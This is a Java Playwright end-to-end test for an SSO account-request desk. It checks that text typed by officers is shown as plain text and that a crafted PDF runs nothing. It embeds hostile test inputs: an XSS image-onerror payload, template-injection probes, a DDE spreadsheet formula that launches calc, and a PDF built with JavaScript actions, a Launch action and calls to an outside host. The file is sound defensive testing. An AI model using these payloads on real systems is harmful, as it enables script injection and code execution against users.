package id.go.bappenas.sso.e2e;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static id.go.bappenas.sso.e2e.harness.AccountRequests.employees;
import static id.go.bappenas.sso.e2e.harness.AccountRequests.flexiwork;
import static id.go.bappenas.sso.e2e.harness.AccountRequests.in;
import static id.go.bappenas.sso.e2e.harness.AccountRequests.path;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import com.microsoft.playwright.Route;
import id.go.bappenas.sso.e2e.harness.AccountRequests;
import id.go.bappenas.sso.e2e.harness.Api;
import id.go.bappenas.sso.e2e.harness.Browsing;
import id.go.bappenas.sso.e2e.harness.Sso;
import id.go.bappenas.sso.e2e.harness.SsoExtension;
import id.go.bappenas.sso.e2e.pages.DeskPages;
import id.go.bappenas.sso.e2e.pages.DraftPages;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/** What an officer types is shown as typed on each page of requests, drafts and people; what a PDF wants to run is not run. */
@ExtendWith(SsoExtension.class)
class DeskHostileTextIT {

    private static final String TEXT = "O'Brien <img src=x onerror=alert(1)> {{7*7}} ${7*7} =cmd|'/C calc'!A0";
    private static final String FORMULA = "=cmd|'/C calc'!A0 <b>";

    @Test
    void textsArePartOfNoPageAsMarkup(Sso sso, Browsing browsing) {
        var requests = AccountRequests.of(sso);
        var submitter = requests.with("request-submitter");
        var request = flexiwork(2);
        for (var field : List.of("subject", "signatory", "signatoryPosition", "unit")) {
            in(request, "memo").put(field, TEXT);
        }
        employees(request).get(0).put("fullName", "O'Brien Rina");
        employees(request).get(0).put("unit", TEXT);
        employees(request).get(0).put("position", TEXT);
        employees(request).get(0).put("externalEmail", "rina.uji@gmial.com");
        var id = requests.submitted(Api.as(sso, submitter), request);
        var page = browsing.device("id-ID", 1280, 800);
        var noticed = watched(page);
        var officer = requests.with("request-verifier", "service-desk");
        var desk = new DeskPages(page, sso).openAs(officer, "requests?search=%3Cimg%20src%3Dx");
        shows(page, TEXT);
        assertThat(page.locator("#search")).hasValue("<img src=x");
        for (var path : List.of("", "/decision", "/employees/1")) {
            desk.open("requests/" + id + path);
            shows(page, TEXT);
        }
        page.locator("#reason").fill(FORMULA);
        page.locator("#exclusion button").click();
        assertThat(page.locator("[role=status]")).isVisible();
        shows(page, FORMULA);
        desk.open("requests/" + id + "/decision");
        page.locator("#reason").fill("www.lain.example " + TEXT);
        page.locator("#reject").click();
        assertThat(page.locator("[data-error-summary]")).isVisible();
        assertThat(page.locator("#reason")).hasValue("www.lain.example " + TEXT);
        page.locator("#reason").fill(TEXT);
        page.context().clearCookies();
        page.locator("#reject").click();
        desk.assertCurrent("desk-signed-out");
        shows(page, "");
        desk.open("people");
        new DeskPages(page, sso).openAs(officer, "people");
        page.locator("[name=search]").fill(TEXT);
        page.locator("main form button").first().click();
        assertThat(page.locator("[name=search]")).hasValue(TEXT);
        shows(page, "");

        var other = browsing.device("id-ID", 1280, 800);
        noticed.addAll(watched(other));
        desk = new DeskPages(other, sso).openAs(submitter, "requests/" + id);
        shows(other, TEXT);
        shows(other, FORMULA);
        desk.open("requests");
        var draft = new DraftPages(other, desk).begin();
        draft.fillIn(
                "FLEXIWORK", Map.of("number", TEXT, "subject", TEXT, "signatory", TEXT, "unit", TEXT, "date", TEXT));
        other.locator("button[value=save]").click();
        assertThat(other.locator("#subject")).hasValue(TEXT);
        assertThat(other.locator("#date")).hasValue(TEXT);
        var address = other.url().replaceAll(".*/account-desk/|\\?.*", "");
        desk.open(address + "/people");
        other.locator("#text")
                .fill("nama\tnik\ttempat_lahir\ttanggal_lahir\tunit_kerja\n"
                        + String.join("\t", TEXT, TEXT, TEXT, TEXT, TEXT));
        other.locator("form:has(#text) button").click();
        for (var step : List.of("/people", "/people/1", "/summary", "/attachments")) {
            desk.open(address + step);
            shows(other, "");
        }
        desk.open(address + "/people");
        assertThat(other.locator("[name$='.nik']")).hasValue(TEXT);

        var report = Api.as(sso, submitter).get(path(id) + "/report").text();
        assertThat(report).contains("\"'" + FORMULA + "\"").doesNotContain("\"=cmd");
        assertThat(noticed).as("dialogs and breaches of the policy").isEmpty();
    }

    @Test
    void pdfThatWantsToRunScriptsIsDrawnAndRunsNone(Sso sso, Browsing browsing) {
        var requests = AccountRequests.of(sso);
        var submitter = requests.submitter();
        var id = requests.submitted(submitter, flexiwork(1));
        var pdf = scriptedPdf();
        assertThat(submitter
                        .send("POST", AccountRequests.UPLOADS + "?type=memo", "application/pdf", pdf)
                        .status())
                .as("the check of attachments")
                .isEqualTo(422);
        var page = browsing.device("id-ID", 1280, 800);
        var noticed = watched(page);
        var asked = new ArrayList<URI>();
        page.onRequest(sent -> asked.add(URI.create(sent.url())));
        page.onPopup(popup -> noticed.add("popup " + popup.url()));
        page.onDownload(file -> noticed.add("download " + file.url()));
        // The check lets no such file in: the browser gets its bytes in place of the stored ones, on the real page.
        page.route(
                "**/requests/" + id + "/attachments/1",
                route -> route.fulfill(new Route.FulfillOptions()
                        .setStatus(200)
                        .setContentType("application/pdf")
                        .setBodyBytes(pdf)));

        new DeskPages(page, sso).openAs(requests.with("request-verifier"), "requests/" + id + "/attachments/1/view");

        assertThat(page.locator("canvas[data-drawn]")).hasCount(1);
        assertThat(page.evaluate("() => { const drawn = document.querySelector('canvas[data-drawn]');"
                        + " const colour = drawn.getContext('2d').getImageData(drawn.width / 2, drawn.height / 2, 1, 1).data;"
                        + " return colour[0] === 255 && colour[1] === 0; }"))
                .as("the red page of the PDF")
                .isEqualTo(true);
        page.locator("canvas").click();
        page.keyboard().press("Enter");
        assertThat(page.locator("[data-pdf] :is(a, input, button, iframe, object, embed)"))
                .hasCount(0);
        assertThat(asked)
                .extracting(URI::getAuthority)
                .containsOnly(URI.create(sso.realm()).getAuthority());
        assertThat(page.evaluate("() => 'ran' in window")).isEqualTo(false);
        assertThat(noticed).isEmpty();
    }

    /** Collects dialogs and what the console says, such as breaches of the policy. */
    private static List<String> watched(Page page) {
        var noticed = new ArrayList<String>();
        page.onConsoleMessage(message -> {
            // The refusals that the test asks for are failed loads; pdf.js draws with another font where it has none.
            if (!message.text().matches("(?s)(Failed to load resource|Warning: Font ).*")) {
                noticed.add(message.text());
            }
        });
        page.onPageError(noticed::add);
        page.onDialog(dialog -> {
            noticed.add("dialog " + dialog.message());
            dialog.dismiss();
        });
        return noticed;
    }

    private static void shows(Page page, String text) {
        assertThat(page.locator("main")).containsText(text);
        assertThat(page.locator("main img, main b, main script[src=x]")).hasCount(0);
        assertThat(page.content()).doesNotContain("<img src=x");
    }

    /** A red page whose catalog, page, link, field and form ask for scripts, other programs, other addresses and files. */
    private static byte[] scriptedPdf() {
        var script =
                "<</S/JavaScript/JS(window.ran = true; app.alert\\('x'\\); this.submitForm\\('https://lain.example/a'\\);)>>";
        var objects = List.of(
                "<</Type/Catalog/Pages 2 0 R/OpenAction " + script + "/AA<</WC " + script + "/DS " + script
                        + ">>/Names<</JavaScript<</Names[(a) " + script
                        + "]>>/EmbeddedFiles<</Names[(x.html) 8 0 R]>>>>"
                        + "/AcroForm<</Fields[6 0 R]/XFA 7 0 R/NeedAppearances true>>>>",
                "<</Type/Pages/Kids[3 0 R]/Count 1>>",
                "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Annots[5 0 R 6 0 R 9 0 R]/AA<</O "
                        + script + "/C<</S/URI/URI(https://lain.example/b)>>>>>>",
                stream("", "1 0 0 rg 0 0 200 200 re f"),
                "<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/Launch/F(calc.exe)/Next<</S/URI/URI(https://lain.example/c)>>>>>>",
                "<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(b)/Rect[0 0 200 200]/AA<</K " + script + "/F " + script
                        + "/V " + script + "/C " + script + ">>>>",
                stream(
                        "",
                        "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><script>window.ran = true</script></xdp:xdp>"),
                "<</Type/Filespec/F(x.html)/EF<</F 10 0 R>>>>",
                "<</Type/Annot/Subtype/FileAttachment/Rect[0 0 20 20]/FS 8 0 R>>",
                stream("/Type/EmbeddedFile", "<script>window.ran = true</script>"));
        var body = new StringBuilder("%PDF-1.7\n");
        var table = new StringBuilder("xref\n0 " + (objects.size() + 1) + "\n0000000000 65535 f \n");
        for (var number = 1; number <= objects.size(); number++) {
            table.append("%010d 00000 n \n".formatted(body.length()));
            body.append(number)
                    .append(" 0 obj\n")
                    .append(objects.get(number - 1))
                    .append("\nendobj\n");
        }
        var start = body.length();
        return body.append(table)
                .append("trailer\n<</Size " + (objects.size() + 1) + "/Root 1 0 R>>\nstartxref\n")
                .append(start)
                .append("\n%%EOF\n")
                .toString()
                .getBytes(StandardCharsets.ISO_8859_1);
    }

    private static String stream(String entries, String content) {
        return "<<" + entries + "/Length " + content.length() + ">>\nstream\n" + content + "\nendstream";
    }
}
